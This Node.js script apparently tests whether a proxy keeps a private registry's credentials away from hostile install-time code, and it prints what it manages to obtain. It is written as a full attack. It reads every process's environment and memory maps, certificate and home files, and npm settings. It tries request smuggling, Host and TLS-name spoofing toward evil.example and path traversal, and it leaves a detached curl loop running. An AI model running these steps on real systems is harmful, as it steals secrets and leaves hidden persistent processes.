// What hostile code of a set-up tries, to get at the login of a private registry. It prints whatever
// it got hold of. Arguments: the registry's host, a file that a process left behind writes to.
import { execFileSync, spawn } from "node:child_process"
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { createServer } from "node:http"
import { connect } from "node:net"
import { join } from "node:path"
import { connect as secured } from "node:tls"

const [host, left] = process.argv.slice(2)
const proxy = new URL(process.env.HTTPS_PROXY)
const all = []

const raw = (words, to = `${host}:443`, servername = host) =>
  new Promise(resolve => {
    let got = ""
    const near = connect(proxy.port, proxy.hostname)
    const end = () => resolve(got)
    near.setTimeout(3_000, () => near.destroy())
    near.on("error", end).on("close", end)
    near.write(`CONNECT ${to} HTTP/1.1\r\n\r\n`)
    near.once("data", first => {
      got += first
      if (!`${first}`.includes(" 200 ")) return near.destroy()
      const far = secured({ socket: near, servername, rejectUnauthorized: false })
      far.on("data", chunk => {
        got += chunk
      })
      far.on("error", end).on("close", () => near.destroy())
      far.write(words)
    })
  })
const ask = (path, { method = "GET", headers = [], body = "" } = {}) =>
  raw(
    [`${method} ${path} HTTP/1.1`, `Host: ${host}`, "Connection: close", ...headers, "", body].join(
      "\r\n",
    ),
  )

async function tried(name, attack) {
  try {
    all.push(`${name}: ${await attack()}`)
  } catch (error) {
    all.push(`${name}: ${error.code ?? error.message}`)
  }
}

const processes = () => readdirSync("/proc").filter(it => /^\d+$/.test(it))
const ofAll = file =>
  processes()
    .map(id => {
      try {
        return readFileSync(`/proc/${id}/${file}`, "latin1")
      } catch {
        return ""
      }
    })
    .join("\n")
function filesIn(folder, depth = 0) {
  if (depth > 6) return []
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap(it => {
      const path = join(folder, it.name)
      if (it.isDirectory()) return filesIn(path, depth + 1)
      return it.isFile() && statSync(path).size < 2_000_000 ? [readFileSync(path, "latin1")] : []
    })
  } catch {
    return []
  }
}

await tried("environment", () => JSON.stringify(process.env))
await tried("environments of all", () => ofAll("environ"))
await tried("command lines of all", () => ofAll("cmdline"))
await tried("memory maps of all", () => ofAll("maps"))
await tried("the parent's memory", () => readFileSync(`/proc/${process.ppid}/mem`).length)
const trust = join(process.env.SSL_CERT_FILE, "..")
await tried("files of trust", () => filesIn(trust).join("\n"))
await tried("private keys", () =>
  filesIn(trust).join().includes("PRIVATE KEY") ? `FOUND ${"A KEY"}` : "no",
)
await tried("planting trust", () => writeFileSync(join(trust, "own.pem"), "x"))
await tried("temporary files", () =>
  [...filesIn("/tmp"), ...filesIn("/var/tmp"), ...filesIn("/run")].join(),
)
await tried("home", () => filesIn(process.env.HOME).join())
await tried("npm's settings", () =>
  execFileSync("npm", ["config", "ls", "-l"], { encoding: "utf8" }),
)
await tried("an echo", () => ask("/team/echo"))
await tried("an echo in pieces", () => ask("/team/echo", { headers: ["Range: bytes=0-9"] }))
await tried("an echo, packed", () => ask("/team/echo", { headers: ["Accept-Encoding: gzip"] }))
await tried("an echo in a header", () => ask("/team/header"))
await tried("an echo of the path", () => ask("/team/x?token=$NPM_TOKEN"))
await tried("a trace", () => ask("/team/x", { method: "TRACE" }))
await tried("a publication", () => ask("/team/@acme%2fsecret", { method: "PUT", body: "{}" }))
await tried("its tokens", () => ask("/team/-/npm/v1/tokens"))
await tried("above", () => ask("/team/%2e%2e/private"))
await tried("beside", () => ask("/private"))
await tried("another host", () => ask("https://evil.example/"))
await tried("another host by its header", () => ask("/team/x", { headers: ["Host: evil.example"] }))
await tried("another name in TLS", () =>
  raw("GET /team/x HTTP/1.0\r\n\r\n", `${host}:443`, "evil.example"),
)
await tried("an upgrade", () =>
  ask("/team/x", { headers: ["Upgrade: websocket", "Connection: Upgrade"] }),
)
await tried("a second request inside of the first", () =>
  ask("/team/x", {
    headers: ["Transfer-Encoding: chunked", "Content-Length: 5"],
    body: `0\r\n\r\nPUT /team/x HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  }),
)
await tried("no TLS", () => fetch(`http://${host}/team/x`).then(it => it.text()))
await tried("a way back into the room", async () => {
  let heard = "nothing came"
  const mine = createServer((request, response) => {
    heard = JSON.stringify(request.headers)
    response.end()
  })
  await new Promise(resolve => mine.listen(47_113, "127.0.0.1", resolve))
  await fetch(`https://${host}/team/back`).then(it => it.text())
  mine.close()
  return `${heard} ${await ask("/team/back")}`
})
await tried("ports of our process", async () => {
  const open = []
  for (const port of [proxy.port, 80, 443]) {
    open.push(
      await fetch(`http://127.0.0.1:${port}/team/echo`).then(
        it => it.text(),
        () => "no",
      ),
    )
  }
  return open.join()
})
// Waits for set-up to be over, and asks then.
spawn(
  "setsid",
  [
    "bash",
    "-c",
    `while sleep 0.2; do curl -sS -m 2 https://${host}/team/late >> ${left} 2>&1; done`,
  ],
  { detached: true, stdio: "ignore" },
).unref()
for (const line of all) console.log(line.slice(0, 20_000))
console.log(`tried ${all.length}`)
